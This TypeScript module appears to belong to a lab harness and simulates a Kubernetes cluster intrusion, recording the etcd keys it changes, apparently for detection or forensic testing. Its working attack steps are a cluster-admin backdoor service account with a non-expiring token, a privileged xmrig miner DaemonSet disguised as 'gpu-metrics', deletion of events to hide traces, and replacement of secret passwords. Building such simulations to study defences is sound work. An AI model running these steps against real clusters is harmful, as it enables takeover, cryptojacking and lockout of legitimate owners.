import type { ApiClient } from '../lab/api-server/client.ts';

/** What the intruder did, by key in etcd. */
export interface Intrusion {
  readonly added: readonly string[];
  readonly deleted: readonly string[];
  readonly changed: readonly string[];
  /** Names of the miner's pods, in `MINER_NAMESPACE`. */
  readonly pods: readonly string[];
}

export const MINER_NAMESPACE = 'kube-system';
/** Named to look at home there. */
const MINER = 'gpu-metrics';
export const MINER_CONTAINER = 'xmrig';
const MINER_IMAGE = 'docker.io/library/xmrig:6.22.2';
const ACCOUNT = 'node-backup';
const NAMESPACES = ['team-01', 'team-02', 'team-03'];
const SECRETS = ['credentials-0', 'credentials-1'];

/** Through the API, as an intruder with a stolen admin certificate would. Rejects where a step is refused. */
export async function intrude(
  api: ApiClient,
  nodes: readonly string[],
  signal: AbortSignal,
): Promise<Intrusion> {
  const added: string[] = [];
  const create = async (
    collection: string,
    key: string,
    object: unknown,
  ): Promise<{ metadata: { uid: string } }> => {
    const created = await api.json<{ metadata: { uid: string } }>('POST', collection, 201, object, signal);
    added.push(key);
    return created;
  };

  await takeOver(create);
  const pods = await mine(create, nodes);
  const deleted = await coverTracks(api, signal);
  const changed = await changeSecrets(api, signal);
  return { added, deleted, changed, pods };
}

type Create = (collection: string, key: string, object: unknown) => Promise<{ metadata: { uid: string } }>;

/** A service account that may do anything, with a token that does not expire. */
async function takeOver(create: Create): Promise<void> {
  const inNamespace = `/api/v1/namespaces/${MINER_NAMESPACE}`;
  await create(`${inNamespace}/serviceaccounts`, `/registry/serviceaccounts/${MINER_NAMESPACE}/${ACCOUNT}`, {
    apiVersion: 'v1',
    kind: 'ServiceAccount',
    metadata: { name: ACCOUNT },
  });
  await create(
    '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
    `/registry/clusterrolebindings/${ACCOUNT}`,
    {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: ACCOUNT },
      subjects: [{ kind: 'ServiceAccount', name: ACCOUNT, namespace: MINER_NAMESPACE }],
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    },
  );
  await create(`${inNamespace}/secrets`, `/registry/secrets/${MINER_NAMESPACE}/${ACCOUNT}-token`, {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: {
      name: `${ACCOUNT}-token`,
      annotations: { 'kubernetes.io/service-account.name': ACCOUNT },
    },
    type: 'kubernetes.io/service-account-token',
  });
}

/** The DaemonSet, and the pods that its controller would make: one a node, bound to it, so that kubelets really run them. */
async function mine(create: Create, nodes: readonly string[]): Promise<string[]> {
  const labels = { app: MINER };
  const container = {
    name: MINER_CONTAINER,
    image: MINER_IMAGE,
    command: ['xmrig', '--url=pool.example:3333', '--threads=64'],
    securityContext: { privileged: true },
  };
  const spec = { hostPID: true, containers: [container], tolerations: [{ operator: 'Exists' }] };
  const { metadata } = await create(
    `/apis/apps/v1/namespaces/${MINER_NAMESPACE}/daemonsets`,
    `/registry/daemonsets/${MINER_NAMESPACE}/${MINER}`,
    {
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { name: MINER, labels },
      spec: { selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
    },
  );
  const pods: string[] = [];
  for (const node of nodes) {
    const name = `${MINER}-${node}`;
    await create(`/api/v1/namespaces/${MINER_NAMESPACE}/pods`, `/registry/pods/${MINER_NAMESPACE}/${name}`, {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: {
        name,
        labels,
        ownerReferences: [
          { apiVersion: 'apps/v1', kind: 'DaemonSet', name: MINER, uid: metadata.uid, controller: true },
        ],
      },
      spec: { ...spec, nodeName: node, restartPolicy: 'Always', terminationGracePeriodSeconds: 1 },
    });
    pods.push(name);
  }
  return pods;
}

/** Events are the record that anyone can read. */
async function coverTracks(api: ApiClient, signal: AbortSignal): Promise<string[]> {
  const deleted: string[] = [];
  for (const namespace of NAMESPACES) {
    const collection = `/api/v1/namespaces/${namespace}/events`;
    const { items } = await api.json<{ items: { metadata: { name: string } }[] }>(
      'GET',
      collection,
      200,
      undefined,
      signal,
    );
    for (const { metadata } of items) {
      await api.json('DELETE', `${collection}/${metadata.name}`, 200, undefined, signal);
      deleted.push(`/registry/events/${namespace}/${metadata.name}`);
    }
  }
  return deleted;
}

/** Credentials that the intruder knows, in place of the owners'. */
async function changeSecrets(api: ApiClient, signal: AbortSignal): Promise<string[]> {
  const changed: string[] = [];
  for (const namespace of NAMESPACES) {
    for (const name of SECRETS) {
      const path = `/api/v1/namespaces/${namespace}/secrets/${name}`;
      const secret = await api.json<{ data: Record<string, string> }>('GET', path, 200, undefined, signal);
      const password = Buffer.from('known to the intruder').toString('base64');
      await api.json('PUT', path, 200, { ...secret, data: { ...secret.data, password } }, signal);
      changed.push(`/registry/secrets/${namespace}/${name}`);
    }
  }
  return changed;
}
